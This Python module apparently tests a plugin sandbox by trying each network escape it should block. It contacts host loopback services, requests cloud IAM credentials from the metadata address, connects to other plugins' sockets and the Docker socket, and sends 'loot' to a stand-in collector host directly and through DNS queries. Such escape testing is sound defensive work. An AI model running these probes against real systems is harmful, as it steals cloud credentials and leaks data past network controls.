"""Attacks by network: the host's services, the cloud's metadata, other plugins' sockets, names not granted."""

from __future__ import annotations

import os
import socket
import struct
from collections.abc import Callable

from .outcome import SECONDS, Known, Outcome, each

TIMEOUT = SECONDS / 4


def talk(address: tuple[str, int], message: bytes) -> str:
    """Connect, say something, and want something back: a connection that is closed without a byte is no success."""
    with socket.create_connection(address, timeout=TIMEOUT) as connection:
        if message:
            connection.sendall(message)
        answer = connection.recv(4096)
    if not answer:
        raise ConnectionError("closed without a byte")
    return f"got {len(answer)} bytes"


def shown(address: tuple[str, int]) -> str:
    return f"{address[0]}:{address[1]}"


def host_loopback(known: Known) -> Outcome:
    """A service that the host offers on its loopback only (a database, say); also by the host's other addresses."""
    port = int(known.get("port", 5432))
    addresses = [(str(host), port) for host in ["127.0.0.1", "::1", *known.get("hosts", [])]]
    return each(addresses, lambda address: talk(address, b"\n"), shown)


def metadata(known: Known) -> Outcome:
    """The credentials that a cloud hands to whoever asks from inside the machine."""
    address = (str(known.get("address", "169.254.169.254")), 80)
    ask = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n"
    return each([address], lambda target: talk(target, ask), shown)


def other_socket(known: Known) -> Outcome:
    """Another plugin's socket and the daemon's own: by their path on the host, by /proc, by abstract name."""
    paths = [str(path) for path in known.get("paths", [])]
    if pid := known.get("pid"):
        paths.append(f"/proc/{pid}/root/run/isolator/plugin/plugin.sock")
    own = {os.environ.get("PLUGIN_SOCKET"), os.environ.get("PLUGIN_HOST_SOCKET")}
    paths += [path for path in ("/run/isolator/control.sock", "/run/docker.sock") if path not in own]

    def join(path: str) -> str:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(TIMEOUT)
            connection.connect(path)
        return "connected"

    return each(dict.fromkeys(paths), join)


def ungranted_name(known: Known) -> Outcome:
    """A name that the policy does not grant: resolve it, connect, and carry something out."""
    name, port = str(known.get("name", "collector.example.net")), int(known.get("port", 443))

    def carry(target: tuple[str, int]) -> str:
        socket.getaddrinfo("loot-0123456789abcdef." + target[0], None)  # the question alone would carry data
        return talk(target, b"loot\n")

    def connect(target: tuple[str, int]) -> str:
        return talk(target, b"loot\n")

    tries: list[tuple[str, Callable[[tuple[str, int]], str]]] = [("by its name", connect), ("in a question", carry)]
    return each(tries, lambda way: way[1]((name, port)), lambda way: f"{name} {way[0]}")


def question(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 0x1501, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


def resolver_udp(known: Known) -> Outcome:
    """An outside resolver over UDP: the usual tunnel."""

    def ask(address: tuple[str, int]) -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(TIMEOUT)
            sock.sendto(question("loot.collector.example.net"), address)
            return f"got {len(sock.recv(4096))} bytes"

    return each([(str(known.get("resolver", "8.8.8.8")), 53)], ask, lambda address: f"{shown(address)}/udp")


def resolver_tcp(known: Known) -> Outcome:
    """The same over TCP."""
    message = question("loot.collector.example.net")
    address = (str(known.get("resolver", "8.8.8.8")), 53)
    framed = struct.pack(">H", len(message)) + message
    return each([address], lambda target: talk(target, framed), lambda target: f"{shown(target)}/tcp")
